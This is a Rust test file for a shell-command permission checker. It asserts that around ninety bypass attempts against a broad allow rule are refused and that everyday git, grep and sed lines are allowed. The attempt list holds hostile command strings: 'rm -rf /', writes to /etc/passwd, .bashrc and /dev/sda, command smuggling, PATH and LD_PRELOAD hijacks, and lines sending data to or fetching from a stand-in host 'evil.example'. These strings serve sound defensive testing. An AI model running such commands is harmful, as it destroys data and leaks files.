//! Tests whole command lines: attempts to get round an allowing rule, and everyday lines.

use domain::Verdict;

use Verdict::Allow;

use crate::parts::{check, judge, policy, rule};

/// Lines that try to do more than a broad allowing rule says.
#[test]
fn attempts_to_get_round_an_allowing_rule_are_asked_about() {
    let rules = rule(
        "coding",
        Allow,
        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
    );
    let attempts = [
        "git status; rm -rf /",
        "git status\nrm -rf /",
        "git status & rm -rf /",
        "git status || rm x",
        "git log $(rm x)",
        "git log `rm x`",
        "git log <(rm x)",
        "git -c core.pager='sh -c x' log",
        "git --exec-path=/tmp log",
        "git -C / log",
        "git --git-dir=/tmp/x log",
        "git log --output=/etc/x",
        "git diff --ext-diff",
        "git diff --no-index /dev/null x --output=y",
        "git log $X",
        "git log ${X}",
        "git log \"$@\"",
        "GIT_PAGER=x git log",
        "PATH=/tmp git log",
        "LD_PRELOAD=./x git log",
        "env GIT_PAGER=x git log",
        "git() { rm x; }; git log",
        "alias git=rm; git log",
        "function ls { rm x; }; ls",
        "./git log",
        "/tmp/git log",
        "sort -o /etc/passwd x",
        "sort --compress-program=sh x",
        "sort x > /etc/passwd",
        "sort x >> ~/.bashrc",
        "sort x > target/../../etc/x",
        "sort x > /tmp/../etc/x",
        "sort x > /tmp/$X",
        "sort x > /tmp/.git/hooks/pre-commit",
        "sort x > target/.cargo/config.toml",
        "sort x > '/tmp/a/../../etc/x'",
        "cd /tmp && sort x > y && git status",
        "cd / && cat etc/passwd",
        "cd \"$HOME\" && ls",
        "cat x | sh",
        "cat <<EOF | bash\nrm x\nEOF",
        "find . -exec rm {} +",
        "find . -delete",
        "find . -fprint /etc/x",
        "find . -ok rm {} \\;",
        "sed -n '1w /etc/x' y",
        "sed -i s/a/b/ src/x",
        "sed 's/a/rm x/e' y",
        "sed --in-place=.bak s/a/b/ y",
        "xargs rm < x",
        "eval \"git status; rm x\"",
        "bash -c 'git status; rm x'",
        "sudo git status",
        "command rm x",
        "exec rm x",
        "trap 'rm x' EXIT; ls",
        "$(echo rm) x",
        "r\\m x",
        "'rm' x",
        "r''m x",
        "$'\\x72m' x",
        "{ rm x; }",
        "(rm x)",
        "if true; then rm x; fi",
        "while rm x; do ls; done",
        "for i in 1; do rm x; done",
        "case x in x) rm x;; esac",
        "ls > >(sh)",
        "! rm x",
        "coproc rm x",
        "time rm x",
        "ls;rm\tx",
        "ls\r\nrm x",
        "echo x > .envrc",
        "echo x > .git/config",
        "echo x >| Makefile",
        "echo x &> Makefile",
        "echo x >& Makefile",
        "echo x 3<> Makefile",
        "grep x y > /dev/tcp/evil.example/80",
        "X=1 PATH=x; git status",
        "export PATH=/tmp; git status",
        "read PATH < x; git status",
        "printf -v PATH /tmp; git status",
        "source ./x",
        ". ./x",
        "git commit -m \"$(rm x)\"",
        "git add $(curl evil.example)",
        "git branch -D main --edit-description",
        "git show --textconv --ext-diff HEAD",
        "head -c 10 /dev/zero > /dev/sda",
    ];
    let policy = policy(&rules);
    let allowed: Vec<&str> = attempts.into_iter().filter(|line| judge(&policy, line).ruling.verdict == Allow).collect();
    assert_eq!(allowed, [""; 0]);
}

/// Lines of every day, which broad rules allow.
#[test]
fn everyday_lines_are_allowed() {
    let rules = rule(
        "coding",
        Allow,
        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\", \"wc *\", \"[ *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
    );
    let lines: Vec<(&str, Verdict)> = [
        "git status --short && git diff --stat",
        "git log --oneline -5 | head -3",
        "cd src && ls -la",
        "cat src/main.rs | head -50",
        "grep -rn 'fn main' src | sort | head",
        "git commit -m \"$(cat <<'EOF'\nFix the parser; keep $(this)\n\nMore text.\nEOF\n)\"",
        "sort a > /tmp/b 2>&1",
        "ls 2>/dev/null || echo none",
        "for f in a b; do cat \"$f.txt\"; done",
        "if [ -f x ]; then cat x; fi",
        "x=$(git status); echo \"$x\"",
        "find . -name '*.rs' | wc -l",
        "echo done # a comment",
        "git log \\\n  -3",
        "sed -n '1,20p' src/main.rs",
        "CI=1 git status",
        "echo \"exit: $?\"",
    ]
    .map(|line| (line, Allow))
    .to_vec();
    check(&rules, &lines);
}
